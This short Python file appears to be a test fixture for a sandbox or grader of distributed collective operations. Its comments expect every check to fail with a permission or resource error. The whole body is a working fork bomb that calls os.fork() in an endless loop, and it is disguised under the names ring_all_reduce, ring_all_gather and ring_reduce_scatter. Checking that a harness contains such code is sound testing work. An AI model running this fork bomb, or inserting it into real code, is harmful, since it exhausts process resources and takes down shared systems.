"""Makes processes that make processes."""

# passes: nothing
# says: PermissionError|Resource temporarily unavailable
import os


def attack(tensor, group=None):
    while True:
        os.fork()


ring_reduce_scatter = ring_all_gather = ring_all_reduce = attack
